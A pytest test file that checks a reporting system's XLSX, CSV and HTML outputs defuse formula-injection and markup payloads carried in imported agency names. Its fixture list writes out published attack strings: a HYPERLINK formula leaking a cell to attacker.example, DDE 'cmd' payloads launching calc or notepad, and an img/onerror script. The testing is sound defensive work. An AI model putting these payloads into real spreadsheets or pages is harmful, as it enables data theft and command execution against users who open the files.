"""No formula reaches a spreadsheet from imported data (CSV / formula injection, OWASP "CSV Injection").

Hostile agency names — the payloads published for this attack class: ``=HYPERLINK``, DDE ``=cmd|…``,
``+``/``-``/``@`` starts, a leading TAB or CR — are imported through the registry like any export, and the
report is then opened as its readers open it: XLSX with openpyxl (no cell of type formula, the text kept),
CSV with the ``csv`` module (every such field neutralised with a leading apostrophe), from ``pilhub report``'s
renderer and from ``/api/v1/report`` with a people's-congress token. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from hub.reports.cells import FORMULA_START, csv_field, is_formula_like

#: Payloads as published for the attack class (OWASP CSV Injection page and the DDE examples it cites).
HOSTILE_AGENCIES = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"点此查看")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP_AGENCY = '<img src=x onerror="alert(1)">市场监督管理局'


def _line(case_no: int, agency: str) -> dict[str, Any]:
    return {
        "case_id": f"INJ-2018-{case_no:03d}",
        "title": "督促依法履行环境监管职责",
        "domain": "ecology",
        "procedure": "admin_pre_litigation",
        "region_code": "330802",
        "district": "柯城区",
        "opened_on": "2018-03-01",
        "status": "open",
        "parties": [{"name": '=HYPERLINK("http://x")有限公司', "kind": "company"}],
        "recommendations": [
            {
                "rec_id": f"柯检行公建〔2018〕{900 + case_no}号",
                "agency": agency,
                "issued_on": "2018-03-10",
                "received_on": "2018-03-12",
                "replies": [{"replied_on": "2018-04-20", "has_evidence": True}],
            }
        ],
        "outcomes": {"land_restored_mu": 1.5, "waste_removed_t": 0, "money_recovered_yuan": 12000},
    }


@pytest.fixture
def hostile_store(store_url: str, tmp_path: Path) -> str:
    from hub.registry.importer import import_cases, read_lines
    from hub.store.db import open_store

    path = tmp_path / "hostile.jsonl"
    lines = [*HOSTILE_AGENCIES, MARKUP_AGENCY]
    path.write_text(
        "\n".join(json.dumps(_line(i, a), ensure_ascii=False) for i, a in enumerate(lines, start=1)), encoding="utf-8"
    )
    report = import_cases(read_lines(path), open_store(store_url), actor="test")
    assert report.inserted == len(lines), report.as_dict()
    return store_url


def _figures(url: str) -> dict[str, Any]:
    import datetime as dt

    from hub.reports.figures import ReportQuery, compute_figures
    from hub.store.db import open_store

    with open_store(url)() as session:
        return compute_figures(session, ReportQuery.build(year=2018, today=dt.date(2026, 11, 23)))


def _assert_xlsx_has_no_formula(body: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(body))
    texts: list[str] = []
    numbers = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
                    if is_formula_like(cell.value):
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate)
                elif isinstance(cell.value, int | float):
                    numbers += 1
    assert numbers > 20  # numbers stay numbers
    return texts


def _assert_csv_has_no_formula(body: bytes) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    for row in rows:
        for value in row:
            assert not is_formula_like(value), row
    return rows


def test_hostile_agency_names_never_become_formulas_in_xlsx_or_csv(hostile_store: str) -> None:
    from hub.reports.output import render

    figures = _figures(hostile_store)
    texts = _assert_xlsx_has_no_formula(render(figures, "xlsx"))
    # The agencies' names are in the workbook as the text they are (nothing lost, nothing evaluated).
    shown = [a for a in HOSTILE_AGENCIES if any(a.strip() in t for t in texts)]
    assert len(shown) == len(HOSTILE_AGENCIES), shown
    rows = _assert_csv_has_no_formula(render(figures, "csv"))
    items = {r[3] for r in rows}
    for agency in HOSTILE_AGENCIES:  # the registry strips the leading TAB / CR: "=1+1" is what arrives
        assert agency.strip()[0] in FORMULA_START and "'" + agency.strip() in items, agency
    # A per-cent figure is still a number a reader can compute with.
    assert any(r[5].replace(".", "", 1).isdigit() for r in rows[1:])


def test_congress_report_download_carries_no_formula(hostile_store: str, tmp_path: Path, api_helpers: Any) -> None:
    tokens = api_helpers.make_tokens(tmp_path)
    with api_helpers.build_client(hostile_store, tokens) as client:
        headers = {"Authorization": f"Bearer {tokens.congress}"}
        for fmt, check in (("xlsx", _assert_xlsx_has_no_formula), ("csv", _assert_csv_has_no_formula)):
            res = client.get("/api/v1/report", params={"year": 2018, "format": fmt}, headers=headers)
            assert res.status_code == 200, (fmt, res.text[:200])
            check(res.content)


def test_html_report_escapes_imported_names(hostile_store: str) -> None:
    from hub.reports.output import render

    html = render(_figures(hostile_store), "html").decode("utf-8")
    assert "市场监督管理局" in html
    assert '<img src=x onerror="alert(1)">' not in html
    assert "&lt;img src=x onerror=" in html


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),
        ("+3.5", "+3.5"),
        ("-12.5%", "-12.5%"),
        (-5, -5),
        (3.25, 3.25),
        ("柯城区", "柯城区"),
        ("", ""),
    ],
)
def test_csv_field_neutralises_formulas_and_keeps_numbers(value: Any, expected: Any) -> None:
    assert csv_field(value) == expected
